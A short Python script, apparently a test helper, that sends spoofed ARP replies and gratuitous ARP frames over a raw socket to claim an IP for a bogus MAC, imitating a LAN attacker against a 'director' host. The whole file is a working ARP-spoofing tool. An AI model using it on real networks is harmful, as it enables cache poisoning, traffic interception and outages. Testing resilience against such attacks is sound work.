#!/usr/bin/env python3
"""Sends spoofed ARP claiming that CLAIM_IP is at BOGUS_MAC, as an attacker
on the LAN would: by turns an unsolicited reply unicast to the director
(TARGET_MAC, TARGET_IP), a gratuitous ARP request and a gratuitous ARP
reply, both broadcast.

usage: spoof-arp.py IFACE TARGET_MAC TARGET_IP CLAIM_IP BOGUS_MAC COUNT INTERVAL_MS

Bounded: COUNT frames, one every INTERVAL_MS milliseconds, then it prints
"sent N" and exits (SIGTERM stops it early, and it still prints).
"""
import signal
import socket
import struct
import sys
import time

ETH_P_ARP = 0x0806
BROADCAST = b"\xff" * 6


def mac(s):
    return bytes(int(x, 16) for x in s.split(":"))


def arp(dst, src, op, sha, spa, tha, tpa):
    eth = dst + src + struct.pack("!H", ETH_P_ARP)
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + sha + spa + tha + tpa
    # Padded to Ethernet's 60-byte minimum.
    return (eth + body).ljust(60, b"\0")


def main():
    iface, target_mac, target_ip, claim_ip, bogus, count, interval = sys.argv[1:8]
    target_mac, bogus = mac(target_mac), mac(bogus)
    target_ip, claim_ip = socket.inet_aton(target_ip), socket.inet_aton(claim_ip)
    count, interval = int(count), int(interval) / 1000.0
    frames = [
        arp(target_mac, bogus, 2, bogus, claim_ip, target_mac, target_ip),
        arp(BROADCAST, bogus, 1, bogus, claim_ip, b"\0" * 6, claim_ip),
        arp(BROADCAST, bogus, 2, bogus, claim_ip, BROADCAST, claim_ip),
    ]
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ARP))
    s.bind((iface, 0))
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    sent = 0
    print("ready", flush=True)
    while sent < count and not stop:
        s.send(frames[sent % len(frames)])
        sent += 1
        time.sleep(interval)
    print(f"sent {sent}", flush=True)


if __name__ == "__main__":
    main()
